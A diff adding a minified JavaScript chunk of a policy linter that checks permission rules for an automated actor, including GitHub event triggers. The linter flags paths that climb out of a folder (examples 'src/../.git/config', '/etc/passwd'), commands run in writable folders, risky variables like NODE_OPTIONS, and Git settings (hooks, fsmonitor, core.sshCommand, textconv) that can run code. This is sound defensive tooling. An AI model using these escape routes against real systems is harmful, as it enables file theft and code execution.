@@ -1,0 +1,871 @@
+export const id = 8079;
+export const ids = [8079, 9092];
+export const modules = {
+	17768: ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {
+		__webpack_require__.d(__webpack_exports__, {
+			AZ: () => events,
+			BU: () => trustedEvents,
+			OE: () => lintWhen,
+			wM: () => isForTrustedEvents
+		});
+		var _nearest_js__WEBPACK_IMPORTED_MODULE_4__ = __webpack_require__(42037), _match_conditions_js__WEBPACK_IMPORTED_MODULE_2__ = __webpack_require__(55635), _policy_js__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(8157), _text_word_list_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(33492), _warning_js__WEBPACK_IMPORTED_MODULE_3__ = __webpack_require__(83453);
+		let heads = {
+			refs: ["refs/heads/"],
+			pullRequest: !1
+		}, headsOrTags = {
+			refs: ["refs/heads/", "refs/tags/"],
+			pullRequest: !1
+		}, pull = {
+			refs: ["refs/pull/"],
+			pullRequest: !0
+		}, commented = {
+			refs: ["refs/heads/"],
+			pullRequest: !0
+		}, events = new Map([
+			...(0, _text_word_list_js__WEBPACK_IMPORTED_MODULE_0__.m)("pull_request pull_request_review pull_request_review_comment", pull),
+			...(0, _text_word_list_js__WEBPACK_IMPORTED_MODULE_0__.m)("pull_request_target issue_comment issues workflow_run check_run check_suite", commented),
+			...(0, _text_word_list_js__WEBPACK_IMPORTED_MODULE_0__.m)("push create deployment deployment_status workflow_dispatch workflow_call status", headsOrTags),
+			["release", {
+				refs: ["refs/tags/"],
+				pullRequest: !1
+			}],
+			...(0, _text_word_list_js__WEBPACK_IMPORTED_MODULE_0__.m)("branch_protection_rule delete discussion discussion_comment fork gollum image_version label merge_group milestone page_build project project_card project_column public registry_package repository_dispatch schedule watch", heads)
+		]), trustedEvents = (0, _text_word_list_js__WEBPACK_IMPORTED_MODULE_0__.d)("push schedule workflow_dispatch repository_dispatch merge_group release create delete deployment deployment_status");
+		function isForTrustedEvents(when) {
+			return (when.find(({ key }) => key === "event")?.matcher.test)?.listed?.every((value) => trustedEvents.has(String(value))) === !0;
+		}
+		function lintWhen(policy) {
+			let { guards, rules, questions, changes = [] } = policy, entries = (0, _policy_js__WEBPACK_IMPORTED_MODULE_1__.Mc)(policy);
+			return [
+				...entries.flatMap(unknownEvents),
+				...entries.flatMap(contradictions),
+				...guards.flatMap((guard) => missedUnknowns(guard, "guard")),
+				...changes.filter(({ verb }) => verb !== "allow").flatMap((entry) => missedUnknowns(entry, "entry")),
+				...[...rules, ...questions].flatMap(loneLabels)
+			];
+		}
+		function unknownEvents(entry) {
+			let condition = entry.when.find((each) => each.key === "event");
+			if (condition === void 0) return [];
+			let { test } = condition.matcher, inner = test.type === "not" ? test.test : test;
+			return inner.listed === void 0 ? [...events.keys(), "unknown"].some((event) => (0, _match_conditions_js__WEBPACK_IMPORTED_MODULE_2__.cK)(condition.matcher, event, "when")) ? [] : [(0, _warning_js__WEBPACK_IMPORTED_MODULE_3__.R8)(condition.at, "unknown-event", `No GitHub event matches "event" of "${entry.id}".`)] : inner.listed.filter((value) => typeof value == "string" && value !== "unknown" && !events.has(value)).map((value) => (0, _warning_js__WEBPACK_IMPORTED_MODULE_3__.R8)(condition.at, "unknown-event", unknownEventMessage(String(value))));
+		}
+		function unknownEventMessage(event) {
+			let near = (0, _nearest_js__WEBPACK_IMPORTED_MODULE_4__.p)(event, [...events.keys()]);
+			return `GitHub has no event "${event}".${near === void 0 ? "" : ` Did you mean "${near}"?`}`;
+		}
+		function contradictions(entry) {
+			let event = entry.when.find((each) => each.key === "event"), possible = [...events].filter(([name]) => event === void 0 || (0, _match_conditions_js__WEBPACK_IMPORTED_MODULE_2__.cK)(event.matcher, name, "when"));
+			if (event === void 0 || possible.length === 0 || (0, _match_conditions_js__WEBPACK_IMPORTED_MODULE_2__.cK)(event.matcher, "unknown", "when")) return [];
+			let others = entry.when.filter((each) => each !== event), failing = others.find((each) => !possible.some(([, fact]) => canHave(each, fact)));
+			if (possible.some(([, fact]) => others.every((each) => canHave(each, fact)))) return [];
+			let condition = failing ?? event, names = possible.slice(0, 4).map(([name]) => name), message = `"${entry.id}" never matches: no run for ${names.join(", ")} has this "${condition.key}".`;
+			return [(0, _warning_js__WEBPACK_IMPORTED_MODULE_3__.R8)(condition.at, "contradictory-when", message)];
+		}
+		function canHave(condition, fact) {
+			let { key, matcher } = condition;
+			return (0, _match_conditions_js__WEBPACK_IMPORTED_MODULE_2__.cK)(matcher, "unknown", "when") ? !0 : key === "ref" ? fact.refs.some((beginning) => mayBegin(matcher, beginning)) : key === "base_ref" ? fact.pullRequest || (0, _match_conditions_js__WEBPACK_IMPORTED_MODULE_2__.cK)(matcher, "", "when") : key === "draft" || key === "fork" ? fact.pullRequest || (0, _match_conditions_js__WEBPACK_IMPORTED_MODULE_2__.cK)(matcher, !1, "when") : !0;
+		}
+		function mayBegin(matcher, beginning) {
+			let { test } = matcher;
+			if (test.listed !== void 0) return test.listed.some((value) => typeof value == "string" && value.startsWith(beginning));
+			if (test.type !== "glob") return !0;
+			let first = test.glob.pieces[0];
+			return typeof first != "object" || first.text.startsWith(beginning) || beginning.startsWith(first.text) && test.glob.pieces.length > 1;
+		}
+		function missedUnknowns(guard, noun) {
+			return guard.when.filter((condition) => condition.key !== "event" && !(0, _match_conditions_js__WEBPACK_IMPORTED_MODULE_2__.cK)(condition.matcher, "unknown", "when")).map(({ at, key }) => {
+				let message = `The ${noun} "${guard.id}" does not match when "${key}" is not known. Add the word "unknown" to its values.`;
+				return (0, _warning_js__WEBPACK_IMPORTED_MODULE_3__.R8)(at, "guard-misses-unknown", message);
+			});
+		}
+		function loneLabels({ id, when }) {
+			let message = `"${id}" matches when one of the labels does, whatever the others are. Write "labels: { has: \u2026 }" to say so, or refuse others by a guard.`;
+			return when.filter(({ key, matcher }) => key === "labels" && [
+				"values",
+				"glob",
+				"re2"
+			].includes(matcher.test.type)).filter(({ matcher }) => matcher.test.listed?.every((value) => value === "unknown") !== !0).map(({ at }) => (0, _warning_js__WEBPACK_IMPORTED_MODULE_3__.R8)(at, "one-label-is-enough", message));
+		}
+	}),
+	37152: ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {
+		__webpack_require__.d(__webpack_exports__, { u: () => lint });
+		var guarded = __webpack_require__(2244), permission_policy = __webpack_require__(8157), place = __webpack_require__(25456), match_conditions = __webpack_require__(55635), tests = __webpack_require__(89992), programs = __webpack_require__(22496), text_glob = __webpack_require__(47141), word_list = __webpack_require__(33492), open_ended = __webpack_require__(79092), warning = __webpack_require__(83453);
+		function* pathsThatClimb({ id, match }) {
+			for (let condition of match) {
+				let { key, at, matcher } = condition;
+				if (fieldMayClimb(condition)) {
+					let message = `"${id}" allows a "${key}" that climbs out of its folder, such as "src/../.git/config". Use "path".`;
+					yield (0, warning.R8)(at, "path-may-climb", message);
+				}
+				for (let { pattern } of (0, tests.fv)(matcher.test).filter(commandMayClimb)) {
+					let message = `"${id}" allows ${JSON.stringify(pattern)}, also with a path that climbs out of the folder, such as "src/../.git/config" or "/etc/passwd". Write "{path:src/**}" for the word.`;
+					yield (0, warning.R8)(at, "path-may-climb", message);
+				}
+			}
+		}
+		let pathKey = /(?:path|file|filename|dir|directory|folder|cwd|workdir|target|source|destination)s?(?:\/[0-9]+)?$/iu;
+		function fieldMayClimb({ key, matcher }) {
+			let { test } = matcher;
+			if (!key.startsWith("/") || !(0, tests.PJ)(test)) return !1;
+			let text = test.pattern ?? "";
+			return text.includes("://") || !pathKey.test(key) && !text.includes("/") ? !1 : (test.type === "glob" ? climbingTexts(test.glob) : climbingTextsFor(text)).some((value) => (0, match_conditions.cK)(matcher, value, "rule"));
+		}
+		let climbs = [
+			"/../x",
+			"../x",
+			"..",
+			"/../../x",
+			".",
+			"/"
+		];
+		function climbingTexts(glob) {
+			let at = glob.pieces.indexOf("run"), written = (climb) => (piece, index) => typeof piece == "object" ? piece.text : at === -1 || index === at ? climb : "x";
+			return (at === -1 ? ["."] : climbs).map((climb) => glob.pieces.map(written(climb)).join("")).filter((text) => isClimbing(text) && (0, text_glob.mw)(glob, text));
+		}
+		function isClimbing(text) {
+			return text.startsWith("/") || text.split("/").includes("..");
+		}
+		function climbingTextsFor(pattern) {
+			let words = [...new Set(pattern.match(/[A-Za-z0-9_-]+/gu))].slice(0, 40), ends = [
+				"x",
+				...words.map((word) => `x.${word}`),
+				...words
+			];
+			return [
+				...[
+					"",
+					"/",
+					...words.map((word) => `${word}/`),
+					...words.map((word) => `.${word}/`)
+				].flatMap((beginning) => ends.map((end) => `${beginning}../${end}`)),
+				...ends.map((end) => `/etc/${end}`),
+				"src/../.git/config",
+				".."
+			];
+		}
+		let takesFiles = (0, word_list.d)("ack ag b2sum base32 base64 bat bzcat cat chmod chown cksum cmp colordiff column comm cp csplit cut diff diff3 dir du egrep expand fd fgrep file find fmt fold git-add grep gunzip gzip head hexdump iconv join jq less ln look ls md5sum mkdir more mv nl nm od paste pr ptx readelf readlink realpath rev rg rm rmdir sed sha1sum sha224sum sha256sum sha384sum sha512sum shasum shred shuf sort split stat strings sum tac tail tar tee touch tree truncate tsort unexpand uniq unlink vdir wc xxd xz xzcat yq zcat zgrep zip zipinfo zless zmore");
+		function commandMayClimb({ tokens, open }) {
+			let [first, ...words] = tokens, program = (0, open_ended.bK)(first);
+			if (program === void 0) return !1;
+			let name = (0, programs.kX)(program), hasFiles = takesFiles.has(name) || takesFiles.has(`${name}-${(0, open_ended.bK)(words[0]) ?? ""}`);
+			return hasFiles && open || words.some((word) => wordMayClimb(word, hasFiles));
+		}
+		function wordMayClimb(word, hasFiles) {
+			if ("path" in word || (0, open_ended.bK)(word) !== void 0) return !1;
+			let holds = (text) => word.pieces.some((piece) => typeof piece == "object" && piece.text.includes(text));
+			return holds(" ") || holds("://") ? !1 : (hasFiles || holds("/")) && climbingTexts(word).length > 0;
+		}
+		let folderKeys = new Set([
+			"/cwd",
+			"/workdir",
+			"/inside"
+		]);
+		function* commandElsewhere(rule, policy) {
+			if (rule.plain?.of !== "command" || !asks(rule, "command", "npm test")) return;
+			let writer = writerIn(policy)?.id;
+			for (let condition of rule.match) {
+				let { key, at, matcher } = condition;
+				if (writer !== void 0 && isElsewhere(rule, condition)) {
+					let message = `"${rule.id}" lets commands run in other folders than the root, and "${writer}" lets files be written. What is written there may be what runs. Leave "${key}" out, or name one folder that nothing may write to.`;
+					yield (0, warning.R8)(at, "command-elsewhere", message);
+				}
+				for (let { pattern } of writer === void 0 ? [] : leavingFolder((0, tests.fv)(matcher.test))) {
+					let message = `"${rule.id}" allows ${JSON.stringify(pattern)}, by which a command runs in a folder of the intern's choice, and "${writer}" lets files be written. What is written there may be what runs. Name the folder.`;
+					yield (0, warning.R8)(at, "command-elsewhere", message);
+				}
+				if (key === "/env" && !isAbsence(condition)) {
+					let message = `"${rule.id}" lets a call set variables for its command, and some make a program run another (NODE_OPTIONS, PATH). Name each allowed variable with its value, as in "/env/CI".`;
+					yield (0, warning.R8)(at, "command-elsewhere", message);
+				}
+			}
+		}
+		function leavingFolder(patterns) {
+			let moves = patterns.filter(leavesFolder);
+			return [...patterns.some((pattern) => !moves.includes(pattern) && !readsOnly(pattern)) ? moves : [], ...patterns.filter(namesFolder)];
+		}
+		function leavesFolder({ tokens: [program, ...words], open }) {
+			let name = (0, open_ended.bK)(program);
+			return (name === "cd" || name === "pushd") && (open || words.some((word) => (0, open_ended.bK)(word) === void 0));
+		}
+		function readsOnly({ tokens: [program] }) {
+			let name = (0, open_ended.bK)(program);
+			return name !== void 0 && (0, open_ended.Bh)(name);
+		}
+		let folderOptions = new Map([
+			["bun", ["--cwd"]],
+			["bundle", ["--gemfile"]],
+			["cargo", ["-C", "--manifest-path"]],
+			["composer", ["-d", "--working-dir"]],
+			["go", ["-C"]],
+			["gradle", ["-p", "--project-dir"]],
+			["mvn", ["-f", "--file"]],
+			["npm", ["-C", "--prefix"]],
+			["pnpm", ["-C", "--dir"]],
+			["poetry", [
+				"-C",
+				"--directory",
+				"-P",
+				"--project"
+			]],
+			["tsc", [
+				"-p",
+				"--project",
+				"-b",
+				"--build"
+			]],
+			["uv", ["--directory", "--project"]],
+			["yarn", ["--cwd"]]
+		]);
+		function namesFolder({ tokens: [program, ...words], open }) {
+			let options = folderOptions.get((0, open_ended.bK)(program) ?? "") ?? [];
+			return words.some((word, index) => {
+				let next = words[index + 1];
+				return options.includes((0, open_ended.bK)(word) ?? "") && (next === void 0 ? open : (0, open_ended.bK)(next) === void 0) || (0, open_ended.bK)(word) === void 0 && options.some((option) => (0, open_ended.VI)(word).startsWith(`${option}=`));
+			});
+		}
+		function isElsewhere({ match }, condition) {
+			return folderKeys.has(condition.key) && !isAbsence(condition) && !match.some(isRoot);
+		}
+		function isAbsence({ matcher: { test } }) {
+			return test.type === "present" && !test.present;
+		}
+		function isRoot({ key, matcher: { test } }) {
+			return key === "/inside" && test.listed?.every((folder) => folder === ".") === !0;
+		}
+		function writerIn({ rules }) {
+			return rules.find((rule) => (0, permission_policy.kG)(rule.verb) && asks(rule, "command", void 0) && asks(rule, "tool", "fs.write") && asks(rule, "operation", "fs.write"));
+		}
+		function asks(rule, field, value) {
+			let conditions = rule.match.filter(({ key }) => key === field || key === `/${field}`);
+			return field === "command" && value !== void 0 ? conditions.every(({ matcher: { test } }) => test.takesMissing !== !0) : conditions.every(({ matcher }) => (0, match_conditions.cK)(matcher, value, "rule"));
+		}
+		var events = __webpack_require__(17768), words = __webpack_require__(91703);
+		function* gitHelpers(rule, mayBeFork) {
+			if (!isShapedByInsiders(rule, mayBeFork)) for (let condition of rule.match) for (let { text, words } of commandsOf(condition)) {
+				let args = wordsOfGit(words), open = args === void 0 ? [] : helpersOf(args);
+				args !== void 0 && open.length !== 0 && (yield (0, warning.R8)(condition.at, "git-runs-configuration", message(rule, text, args, open)));
+			}
+		}
+		function wordsOfGit([program, ...args]) {
+			if (program === void 0) return;
+			if ((0, programs.mw)(program) === "git") return args;
+			if (!(0, programs.v7)(program)) return;
+			let at = args.findIndex((word) => word !== void 0 && (0, programs.mw)(word) === "git");
+			return at === -1 ? args.some((word) => /(?:^|[^\w.-])git\s/iu.test(word ?? "")) ? [void 0] : void 0 : args.slice(at + 1);
+		}
+		function isShapedByInsiders({ when }, mayBeFork) {
+			if ((0, events.wM)(when)) return !0;
+			let permission = when.find(({ key }) => key === "actor.permission");
+			return permission === void 0 || mayBeFork ? !1 : ![
+				"none",
+				"read",
+				"triage",
+				"unknown"
+			].some((level) => (0, match_conditions.cK)(permission.matcher, level, "when"));
+		}
+		function commandsOf({ key, matcher: { test } }) {
+			if (test.type === "only") return test.patterns.map(({ pattern, tokens, open }) => ({
+				text: pattern,
+				words: [...tokens.map((token) => (0, open_ended.bK)(token) ?? ("path" in token ? `{path:${token.path}}` : void 0)), ...open ? [void 0] : []]
+			}));
+			let prefix = key === "operation" || key === "/operation" ? "shell command: " : "";
+			return test.type !== "values" || prefix === "" && key !== "command" && key !== "/command" ? [] : test.listed.filter((value) => typeof value == "string").filter((text) => text.startsWith(prefix)).flatMap((text) => {
+				let reading = (0, words.u)(text.slice(prefix.length), { pattern: !1 });
+				return "error" in reading ? [] : reading.commands.map((words) => ({
+					text: words.map((word) => word.quoted ? `'${word.text}'` : word.text).join(" "),
+					words: words.map((word) => word.text)
+				}));
+			});
+		}
+		function message(rule, text, args, open) {
+			let names = open.map(({ name }) => name).join(", "), safer = saferSpelling(text, args, open), stays = open.filter(({ instead }) => instead === void 0).map(({ name }) => name), remedies = [...safer === void 0 ? [] : [`Write ${JSON.stringify(safer)}.`], ...stays.length === 0 ? [] : [`No option stops ${stays.join(", ")}: ${lastRemedy(args)}`]];
+			return `"${rule.id}" allows ${JSON.stringify(text)} where outsiders may have shaped the checkout, and its configuration can make Git run ${names}. ${remedies.join(" ")}`;
+		}
+		function lastRemedy(args) {
+			let only = "give the rule \"fork: false\" and an \"actor\" who may write.";
+			return args.includes("diff") ? `compare commits ("main...HEAD") or the index ("--cached"), or ${only}` : only;
+		}
+		let helpers = {
+			pager: {
+				name: "a pager (core.pager)",
+				instead: { before: "--no-pager" }
+			},
+			fetch: {
+				name: "a fetch of objects that are missing (core.sshCommand)",
+				instead: { before: "--no-lazy-fetch" }
+			},
+			fsmonitor: {
+				name: "a file monitor (core.fsmonitor)",
+				instead: { before: "-c core.fsmonitor=false" }
+			},
+			hooks: {
+				name: "hooks (core.hooksPath)",
+				instead: { before: "-c core.hooksPath=/dev/null" }
+			},
+			external: {
+				name: "an external diff (diff.external)",
+				instead: { behind: "--no-ext-diff" }
+			},
+			textconv: {
+				name: "a text conversion (diff.NAME.textconv)",
+				instead: { behind: "--no-textconv" }
+			},
+			signature: {
+				name: "a signature check (gpg.program)",
+				instead: { behind: "--no-show-signature" }
+			},
+			format: {
+				name: "a signature check by a format (format.pretty)",
+				instead: { behind: "--pretty=medium" }
+			},
+			submodule: {
+				name: "an external diff of a submodule (diff.submodule)",
+				instead: { behind: "--submodule=short" }
+			},
+			merge: {
+				name: "a merge driver (log.diffMerges)",
+				instead: { before: "-c log.diffMerges=separate" }
+			},
+			sorting: {
+				name: "a signature check by a key to sort by (branch.sort)",
+				instead: { behind: "--no-sort" }
+			},
+			namesake: {
+				name: "filters of a file that has the name of the comparison",
+				instead: { end: "--" }
+			},
+			filters: {
+				name: "filters (filter.NAME.clean)",
+				instead: void 0
+			},
+			others: {
+				name: "hooks, filters, aliases and helpers for editing and fetching",
+				instead: void 0
+			}
+		}, usual = [
+			"pager",
+			"fetch",
+			"fsmonitor"
+		], usualWithIndex = [...usual, "hooks"], bySubcommand = new Map([
+			...(0, word_list.m)("cat-file for-each-ref ls-tree merge-base name-rev reflog rev-list shortlog show-ref", usual),
+			...(0, word_list.m)("describe grep ls-files", usualWithIndex),
+			...(0, word_list.m)("branch tag", [...usual, "sorting"]),
+			...(0, word_list.m)("log show", [
+				...usual,
+				"textconv",
+				"external",
+				"submodule",
+				"signature",
+				"format"
+			]),
+			["status", [...usualWithIndex, "filters"]],
+			["diff", [
+				...usualWithIndex,
+				"external",
+				"textconv",
+				"submodule",
+				"namesake",
+				"filters"
+			]],
+			["blame", [
+				...usualWithIndex,
+				"textconv",
+				"filters"
+			]],
+			...(0, word_list.m)("remote var", ["pager"]),
+			["rev-parse", ["fetch", "fsmonitor"]],
+			["version", []]
+		]), byOption = new Map([
+			...(0, word_list.m)("cat-file grep", {
+				option: /^--textconv$/u,
+				runs: "textconv"
+			}),
+			["ls-files", {
+				option: /^(?:-[a-zA-Z]*m[a-zA-Z]*|--modified|--eol)$/u,
+				runs: "filters"
+			}],
+			["describe", {
+				option: /^--dirty(?:=|$)/u,
+				runs: "filters"
+			}],
+			...(0, word_list.m)("log show", {
+				option: /^(?:-m|--diff-merges=(?:on|m))$/u,
+				runs: "merge"
+			})
+		]), known = (0, word_list.d)("abbrev abbrev-commit abbrev-ref after all always ancestry-path author batch batch-all-objects batch-check before binary boundary branch branches buffer cached check cherry cherry-mark cherry-pick color color-words column combined-all-paths committer compact-summary contains context count date date-order decorate deleted diff-algorithm diff-filter dirty email eol error-unmatch exact-match exclude exclude-standard exit-code ext-diff extended-regexp files-with-matches files-without-match find-copies find-renames first-parent fixed-strings follow full-index full-name full-tree function-context git-dir graph grep heading heads histogram ignore-all-space ignore-blank-lines ignore-case ignore-space-change ignored indexed-objects invert-grep invert-match is-ancestor is-inside-work-tree left-right line-number line-porcelain local-refs long match max-count max-depth merge merge-base merged merges minimal modified name-only name-status null numbered numstat object-only objects octopus others patch patch-with-stat patience perl-regexp points-at porcelain quiet raw recurse-submodules refs regexp-ignore-case relative remotes renames reverse root short shortstat show-cdup show-prefix show-signature show-toplevel since skip sort source sq stage staged stat stdin submodule summary symbolic symbolic-full-name tags textconv topo-order unified unmerged until untracked untracked-files verify walk word-diff word-regexp"), knownFormat = /^--(?:oneline|pretty|(?:format|pretty)=(?:(?:oneline|short|medium|full|fuller|reference|email|mboxrd|raw)|(?!.*%[-+ ]?G)(?:t?format:.*|.*%.*)))$/su, formatOption = /^--(?:oneline$|(?:format|pretty)(?:=|$))/u, submoduleOption = /^--submodule(?:=|$)/u, signatureOption = /^--(?:no-)?show-signature$/u, mergesOption = /^--diff-merges=(?:on|m|off|none|1|first-parent|separate|c|combined|cc|dense-combined)$|^--no-diff-merges$/u;
+		function isKnown(subcommand, option) {
+			return formatOption.test(option) && (subcommand === "log" || subcommand === "show") ? !0 : /signature/u.test(option) ? signatureOption.test(option) : formatOption.test(option) ? knownFormat.test(option) : option.startsWith("--") ? mergesOption.test(option) || known.has(option.replace(/^--(?:no-)?|=.*/gsu, "")) : !option.includes("O");
+		}
+		let asking = new Set([
+			"--ext-diff",
+			"--textconv",
+			"--show-signature"
+		]), listing = new Map([
+			["branch", listingRefs("-[arvil]+|--(?:all|remotes|verbose|show-current)")],
+			["tag", listingRefs("-[il]+|-n[0-9]*")],
+			["remote", { options: /^(?:-v|--verbose)$/u }],
+			["reflog", { options: /^(?:-[0-9]+|-n[0-9]*|--(?:oneline|all|date=.*))$/u }]
+		]);
+		function listingRefs(own) {
+			return {
+				options: RegExp(`^(?:${own}|--(?:list|ignore-case|no-sort|(?:no-)?(?:color|column|contains|merged)|points-at|(?:sort|format)=(?!.*signature).*))$`, "u"),
+				names: /^(?:-l|-n[0-9]*|--(?:list|(?:no-)?(?:contains|merged)|points-at))$/u
+			};
+		}
+		let ofIndex = /^\{path:[*?:]|(?:^|[.^]):|^--(?:batch.*|indexed-objects|merge|shared-index-path|stdin)$/u, globalFlags = (0, word_list.d)("--no-pager -P --no-lazy-fetch --no-optional-locks --no-replace-objects --no-advice --literal-pathspecs --glob-pathspecs --noglob-pathspecs --icase-pathspecs");
+		function helpersOf(words) {
+			let { settings, flags, rest } = readGlobal(words), [subcommand, ...args] = rest;
+			if (subcommand === void 0) return words.every((word) => word === "--version") ? [] : [helpers.others];
+			let usually = bySubcommand.get(subcommand);
+			if (usually === void 0 || !flags.isSubsetOf(globalFlags) || !onlyLists(subcommand, args)) return [helpers.others];
+			let options = upTo(args, "--", "--end-of-options").filter((word) => word?.startsWith("-") !== !1), more = byOption.get(subcommand), asksMore = options.some((word) => word === void 0 || more?.option.test(word)), isStrange = options.some((word) => word === void 0 || !(listing.has(subcommand) || isKnown(subcommand, word))), wanted = new Set([
+				...usually,
+				...more !== void 0 && asksMore ? [more.runs] : [],
+				...isStrange ? ["others"] : []
+			]), isQuiet = showsNoText(subcommand, options), comparesIndex = options.some((word) => word === "--cached" || word === "--staged"), isOff = {
+				pager: flags.has("--no-pager") || flags.has("-P"),
+				fetch: flags.has("--no-lazy-fetch"),
+				fsmonitor: /^(?:false|off|no|0|)$/iu.test(settings.get("core.fsmonitor") ?? "unset") || !mayReadIndex(subcommand, args),
+				hooks: settings.get("core.hookspath") === "/dev/null",
+				external: isQuiet || isSaid(options, "--ext-diff", "--no-ext-diff") || subcommand !== "diff" && !options.includes("--ext-diff"),
+				textconv: isQuiet || isSaid(options, "--textconv", "--no-textconv"),
+				signature: isSaid(options, "--show-signature", "--no-show-signature"),
+				format: knownFormat.test(lastOf(options, formatOption)),
+				submodule: isQuiet || /^--submodule=(?:short|log)$/u.test(lastOf(options, submoduleOption)),
+				merge: /^(?:first-parent|separate)$/u.test(settings.get("log.diffmerges") ?? ""),
+				sorting: options.includes("--no-sort"),
+				namesake: comparesIndex || args.includes("--") || !comparesCommits(args),
+				filters: subcommand === "diff" && (comparesIndex || comparesCommits(args)),
+				others: !1
+			};
+			return [...wanted].filter((name) => !isOff[name]).map((name) => helpers[name]);
+		}
+		function saferSpelling(text, words, open) {
+			let [subcommand] = readGlobal(words).rest, additions = open.flatMap(({ instead }) => instead ?? []);
+			if (subcommand === void 0 || additions.length === 0) return;
+			let isInTheWay = (word) => asking.has(word) || open.includes(helpers.format) && formatOption.test(word) || open.includes(helpers.submodule) && submoduleOption.test(word), [program = "", ...others] = text.split(" ").filter((word) => !isInTheWay(word)), at = others.indexOf(subcommand) + 1, args = others.slice(at), end = args.findLastIndex((word) => range.test(word) || word.startsWith("-")) + 1;
+			return [
+				program,
+				...additions.flatMap(({ before }) => before ?? []),
+				...others.slice(0, at),
+				...additions.flatMap(({ behind }) => behind ?? []),
+				...args.slice(0, end),
+				...additions.flatMap(({ end: ending }) => ending ?? []),
+				...args.slice(end)
+			].join(" ");
+		}
+		function upTo(args, ...ends) {
+			let end = args.findIndex((word) => word !== void 0 && ends.includes(word));
+			return end === -1 ? args : args.slice(0, end);
+		}
+		function lastOf(options, pattern) {
+			return options.findLast((word) => pattern.test(word ?? "")) ?? "";
+		}
+		function mayReadIndex(subcommand, args) {
+			return subcommand === "show" || bySubcommand.get(subcommand)?.includes("hooks") === !0 || upTo(args, "--").some((word) => word === void 0 || ofIndex.test(word) || subcommand === "log" && word.startsWith("-") && !walkOption.test(word));
+		}
+		function onlyLists(subcommand, args) {
+			let forms = listing.get(subcommand);
+			if (forms === void 0) return !0;
+			let { options, names } = forms;
+			return args.every((word) => word !== void 0 && (!word.startsWith("-") || options.test(word))) ? args.every((word) => word?.startsWith("-")) || args.some((word) => names?.test(word ?? "")) : !1;
+		}
+		function readGlobal(words) {
+			let settings = new Map(), flags = new Set(), at = 0;
+			for (; words[at]?.startsWith("-") === !0; at += 1) {
+				let word = words[at] ?? "";
+				if (word === "-C" && (at += 1), word === "-c") {
+					at += 1;
+					let [name = "", ...value] = (words[at] ?? "").split("=");
+					settings.set(name.toLowerCase(), value.join("="));
+				} else flags.add(word);
+			}
+			return {
+				settings,
+				flags,
+				rest: words.slice(at)
+			};
+		}
+		function isSaid(args, yes, no) {
+			return args.lastIndexOf(no) > args.lastIndexOf(yes);
+		}
+		let walkOption = /^--(?:abbrev-commit|all|author=.*|cached|date=.*|decorate|first-parent|format=.*|graph|max-count=.*|merges|no-color|no-ext-diff|no-merges|no-patch|no-show-signature|no-textconv|oneline|pretty=.*|reverse|since=.*|staged|submodule=.*|until=.*)$|^-(?:[0-9]+|n[0-9]*|s)$/u, summaryOption = /^--(?:name-only|name-status|no-patch|numstat|shortstat|stat|summary)$|^-s$/u;
+		function showsNoText(subcommand, options) {
+			let isQuiet = (word = "") => walkOption.test(word) || summaryOption.test(word) || word === "--follow";
+			return options.every(isQuiet) && (subcommand === "log" || (subcommand === "diff" || subcommand === "show") && options.some((word) => summaryOption.test(word ?? "")));
+		}
+		let range = /^(?!-).*[^./]\.\.\.?[^./]/u;
+		function comparesCommits(args) {
+			let words = upTo(args, "--");
+			return words.every((word) => word !== void 0) && words.some((word) => range.test(word));
+		}
+		function* unreachable({ guards, rules, questions }) {
+			yield* unreachableIn(guards, rules, "rule"), yield* unreachableIn(guards, questions, "question");
+		}
+		function* unreachableIn(guards, entries, kind) {
+			let before = [...guards];
+			for (let entry of entries) {
+				let reason = wrongKind(entry, kind) ?? whoCovers(entry, before, kind);
+				reason !== void 0 && (yield (0, warning.c$)(entry, "unreachable-rule", `The ${kind} "${entry.id}" never decides: ${reason}`)), before.push(entry);
+			}
+		}
+		function wrongKind(entry, kind) {
+			let condition = entry.match.find((each) => each.key === "kind");
+			if (condition === void 0) return;
+			if (kind === "rule") return (0, match_conditions.cK)(condition.matcher, "permission", "rule") ? void 0 : "rules see only the kind \"permission\". Move it to \"questions\".";
+			let { test } = condition.matcher;
+			return test.listed?.every((value) => value === "permission") === !0 ? "questions never see the kind \"permission\". Move it to \"rules\"." : void 0;
+		}
+		function whoCovers(entry, before, kind) {
+			let judged = kind === "rule" ? {
+				...entry,
+				match: [...entry.match, permissionOnly]
+			} : entry, earlier = before.find((each) => covers(each, judged));
+			return earlier === void 0 ? void 0 : `"${earlier.id}" before it matches all that it does. Put it first, or delete it.`;
+		}
+		let permissionOnly = {
+			key: "kind",
+			matcher: {
+				test: (0, tests.zE)(["permission"]),
+				missing: !1
+			}
+		};
+		function isAsNarrow(wide, narrow) {
+			if (wide === void 0 || wide.of === "any") return !0;
+			if (narrow === void 0 || !narrow.named.every((one) => wide.named.includes(one))) return !1;
+			let isPlain = (part) => narrow.parts.includes(part) || part === "outside" && narrow.parts.includes("folder");
+			return wide.parts.every(isPlain);
+		}
+		function covers(wide, narrow) {
+			return isAsNarrow(wide.plain, narrow.plain) && wide.when.every((each) => narrow.when.some((other) => other.key === each.key && contains(each.matcher, other.matcher, "when"))) && wide.match.every((each) => narrow.match.some((other) => other.key === each.key && contains(each.matcher, other.matcher, "rule")) ? !0 : each.matcher.missing && each.matcher.test.type === "present" && each.matcher.test.present);
+		}
+		function contains(wide, narrow, mode) {
+			return (0, match_conditions.cK)(narrow, void 0, mode) && !(0, match_conditions.cK)(wide, void 0, mode) ? !1 : narrow.test.type === "present" && !narrow.test.present || containsPresent(wide.test, narrow.test, wide, mode);
+		}
+		function containsPresent(wide, narrow, matcher, mode) {
+			return wide.type === "present" ? wide.present : wide.asksWhole === !0 ? hasMore(wide, narrow) || sameTest(wide, narrow) : narrow.listed === void 0 ? wide.type === "glob" && narrow.type === "glob" ? globContains(wide.glob, narrow.glob) : wide.type === "glob" ? isEverything(wide.glob) && [
+				"re2",
+				"path",
+				"only"
+			].includes(narrow.type) : wide.type === "only" && narrow.type === "only" ? patternsContain(wide.patterns, narrow.patterns) : wide.type === "path" && narrow.type === "path" ? narrow.globs.every((glob) => wide.globs.includes(glob)) : sameTest(wide, narrow) : narrow.listed.every((value) => (0, match_conditions.cK)(matcher, value, mode));
+		}
+		function hasMore(wide, narrow) {
+			return wide.type !== "has" || narrow.type !== "has" ? !1 : narrow.values.every((value) => wide.values.includes(value));
+		}
+		function isEverything(glob) {
+			return glob.pieces.length === 1 && glob.pieces[0] === "run";
+		}
